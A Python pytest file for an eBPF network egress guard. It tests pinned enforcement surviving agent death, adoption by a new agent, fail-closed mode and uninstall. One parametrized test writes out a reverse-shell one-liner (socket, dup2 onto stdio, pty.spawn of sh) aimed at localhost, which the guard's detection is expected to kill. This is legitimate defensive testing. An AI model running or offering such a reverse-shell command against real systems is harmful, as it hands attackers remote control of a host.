# SPDX-License-Identifier: Apache-2.0
"""Pinned mode: enforcement outlives the agent, a new agent adopts it without
a gap or a duplicate, fail-closed while nobody reads events, uninstall."""
from __future__ import annotations

import os
import signal
import subprocess
import sys
import time

import pytest

from guard.kernel.objects import remove_pins
from guard.demo.sandbox import TempCgroup

from .conftest import CGROUP_HOOKS
from .agentproc import AgentProcess
from .netfixtures import end_tree
from .conftest import port_block_policy
from .test_lifecycle import cgroup_attachments, egress_guard, guard_programs
from .test_reload import AcceptingListener

BLOCKED, ALLOWED = 29801, 29802
PROGRAMS = {"guard_exec", "guard_connect4", "guard_connect6", "guard_sendmsg4",
            "guard_sendmsg6", "guard_sock_create", "guard_socket_syscall",
            "guard_cgroup_mkdir", "guard_cgroup_rmdir", "guard_egress", "guard_ingress", "guard_fork",
            "guard_destroy_tcp", "guard_bind4", "guard_bind6", "guard_dns_query",
            "guard_dns_answer", "guard_cgroup_attach", "guard_fork_mark", "guard_mark_tasks",
            "guard_sock_release"}

POLICY = port_block_policy("pinned", BLOCKED)

FAIL_CLOSED = port_block_policy("pinned", BLOCKED, extra_spec=f"""\
  failClosed:
    afterSeconds: 1
    allow:
      - cidr: 127.0.0.1/32
        ports: [{ALLOWED}]
""")


@pytest.fixture
def pin_dir(tmp_path):
    """A private bpf file system, mounted for this test and unmounted after,
    so the host's /sys/fs/bpf is never touched."""
    mount_point = tmp_path / "bpffs"
    mount_point.mkdir()
    subprocess.run(["mount", "-t", "bpf", "bpf", str(mount_point)], check=True)
    try:
        yield mount_point / "egress-guard"
    finally:
        remove_pins(mount_point / "egress-guard")
        subprocess.run(["umount", str(mount_point)], check=True)


@pytest.fixture
def listeners():
    lst = [AcceptingListener(BLOCKED), AcceptingListener(ALLOWED), AcceptingListener(29803)]
    yield lst
    for listener in lst:
        listener.close()


def connect(cg: TempCgroup, port: int) -> str:
    out = cg.python(f"import socket; print(socket.socket().connect_ex(('127.0.0.1', {port})))")
    return {"0": "ok", "1": "EPERM"}.get(out.stdout.strip(), out.stdout + out.stderr)


def pinned_agent(cg, policy, pin_dir):
    # both agents share one state directory, as they would on a host
    state = pin_dir.parent.parent / "state"
    return AgentProcess([str(cg.path)], policy=policy,
                        extra=["--pin", "--pin-dir", str(pin_dir), "--state-dir", str(state)])


def guard_program_names() -> list[str]:
    return sorted(p["name"] for p in guard_programs(settle_s=0))


def test_killed_agent_keeps_enforcing_and_a_new_agent_adopts(tmp_path, pin_dir, listeners):
    policy = tmp_path / "p.yaml"
    policy.write_text(POLICY)
    with TempCgroup("egress-guard-test") as cg:
        with pinned_agent(cg, policy, pin_dir) as first:
            assert first.ready["adopted"] is False
            assert connect(cg, BLOCKED) == "EPERM"
            assert first.stop(signal.SIGKILL) == -signal.SIGKILL
        # no agent: the pinned programs still judge
        assert connect(cg, BLOCKED) == "EPERM" and connect(cg, ALLOWED) == "ok"
        assert len(cgroup_attachments(cg.path)) == CGROUP_HOOKS
        assert cg.run(["/bin/true", "while-no-agent"]).returncode == 0

        with pinned_agent(cg, policy, pin_dir) as second:
            assert second.ready["adopted"] is True
            assert second.ready["policy"]["generation"] == 2
            # the new programs were swapped into the pinned links: one of each
            assert len(cgroup_attachments(cg.path)) == CGROUP_HOOKS
            deadline = time.monotonic() + 10
            while guard_program_names() != sorted(PROGRAMS) and time.monotonic() < deadline:
                time.sleep(0.1)  # the replaced programs are freed after an RCU grace period
            assert guard_program_names() == sorted(PROGRAMS)
            # what the kernel queued while no agent ran is delivered now
            second.wait_for(lambda e: e["kind"] == "exec"
                            and e["process"]["argv"] == ["/bin/true", "while-no-agent"])
            assert connect(cg, BLOCKED) == "EPERM"
            second.wait_for(lambda e: e["kind"] == "connect" and e["dst"]["port"] == BLOCKED
                            and e["policy"]["generation"] == 2)
            refused = egress_guard("uninstall", "--pin-dir", str(pin_dir),
                                   "--socket", second.control_socket)
            assert refused.returncode == 3 and "stop it first" in refused.stderr
            assert second.stop(signal.SIGTERM) == 0
            assert second.events[-1]["pinned"] is True
        # a stopped pinned agent also leaves enforcement in place
        assert connect(cg, BLOCKED) == "EPERM"
        result = egress_guard("uninstall", "--pin-dir", str(pin_dir),
                              "--socket", str(tmp_path / "no-agent.sock"))
        assert result.returncode == 0, result.stderr
        assert "removed" in result.stdout
        assert connect(cg, BLOCKED) == "ok"
        assert cgroup_attachments(cg.path) == []
    assert not pin_dir.exists()
    assert guard_programs() == []


def test_fail_closed_while_no_agent_reads_events(tmp_path, pin_dir, listeners):
    policy = tmp_path / "p.yaml"
    policy.write_text(FAIL_CLOSED)
    with TempCgroup("egress-guard-test") as cg:
        with pinned_agent(cg, policy, pin_dir) as first:
            assert connect(cg, 29803) == "ok"          # defaultAction: allow
            assert first.stop(signal.SIGKILL) == -signal.SIGKILL
        time.sleep(1.5)                                 # > afterSeconds: heartbeat is stale
        assert connect(cg, 29803) == "EPERM"           # fail-closed: everything else blocked
        assert connect(cg, ALLOWED) == "ok"            # but the failClosed allowlist
        with pinned_agent(cg, policy, pin_dir) as second:
            assert connect(cg, 29803) == "ok"          # an agent reads again: normal policy
            blocked = second.wait_for(lambda e: e["kind"] == "connect"
                                      and e["dst"]["port"] == 29803 and e["action"] == "block")
            assert blocked["policy"]["name"] == "pinned.fail-closed"
            assert blocked["policy"]["generation"] == 1
            assert second.stop() == 0
        result = egress_guard("uninstall", "--pin-dir", str(pin_dir),
                              "--socket", str(tmp_path / "none.sock"))
        assert result.returncode == 0
    assert guard_programs() == []


def test_adopting_agent_releases_cgroups_it_was_not_given(tmp_path, pin_dir, listeners):
    policy = tmp_path / "p.yaml"
    policy.write_text(POLICY)
    with TempCgroup("egress-guard-test") as kept, TempCgroup("egress-guard-test") as dropped:
        first = AgentProcess([str(kept.path), str(dropped.path)], policy=policy,
                             extra=["--pin", "--pin-dir", str(pin_dir)])
        with first:
            assert connect(dropped, BLOCKED) == "EPERM"
            first.stop(signal.SIGKILL)
        with pinned_agent(kept, policy, pin_dir) as second:
            assert [c["id"] for c in second.ready["cgroups"]] == [kept.id]
            assert connect(dropped, BLOCKED) == "ok"
            assert cgroup_attachments(dropped.path) == []
            assert connect(kept, BLOCKED) == "EPERM"
            second.stop()
        egress_guard("uninstall", "--pin-dir", str(pin_dir), "--socket", str(tmp_path / "x"))
    assert guard_programs() == []


STALE_HOLD_POLICY = """apiVersion: egress-guard/v1
kind: EgressPolicy
metadata:
  name: stale
spec:
  defaultAction: allow
  detections:
    reverseShell: kill
"""


@pytest.mark.parametrize("argv, fate", [
    (["sleep", "30"], "resumed"),
    # one process (no child left behind when it is killed), a reverse shell's argv
    ([sys.executable, "-c", "import os,pty,socket,time; time.sleep(30); s=socket.socket(); "
      "s.connect(('127.0.0.1',9)); [os.dup2(s.fileno(),f) for f in (0,1,2)]; "
      "pty.spawn('sh')"], "killed")])
def test_a_stop_whose_exec_event_was_lost_is_judged_from_proc(tmp_path, pin_dir, argv, fate):
    """The kernel records every program it stops at exec in eg_held_execs; an
    entry the agent never cleared (its exec event was lost) is judged from
    /proc once it is older than the hold timeout. Simulated here by stopping a
    process ourselves and writing its entry into the pinned map."""
    import ctypes

    from guard.kernel import libbpf

    policy = tmp_path / "p.yaml"
    policy.write_text(STALE_HOLD_POLICY)
    with TempCgroup("egress-guard-test") as cg:
        # started before the agent, so no exec verdict was given to it
        proc = cg.popen(argv)
        try:
            with pinned_agent(cg, policy, pin_dir) as agent:
                os.kill(proc.pid, signal.SIGSTOP)
                fd = libbpf.lib().bpf_obj_get(str(pin_dir / "maps" / "eg_held_execs").encode())
                assert fd >= 0
                try:
                    libbpf.map_update(fd, ctypes.c_uint32(proc.pid), ctypes.c_uint64(0))
                finally:
                    os.close(fd)
                event = agent.wait_for(lambda e: e.get("kind") == "error"
                                       and e.get("pid") == proc.pid and "held at exec" in e["error"])
                assert event["done"] == fate and event["error"].endswith(fate)
                if fate == "killed":
                    assert proc.wait(timeout=10) == -signal.SIGKILL
                else:
                    deadline = time.monotonic() + 10
                    while _state(proc.pid) == "T" and time.monotonic() < deadline:
                        time.sleep(0.05)
                    assert _state(proc.pid) in ("S", "R")   # resumed: asleep, or just woken
        finally:
            end_tree(proc)


def _state(pid: int) -> str:
    with open(f"/proc/{pid}/stat") as fh:
        return fh.read().rsplit(")", 1)[1].split()[0]
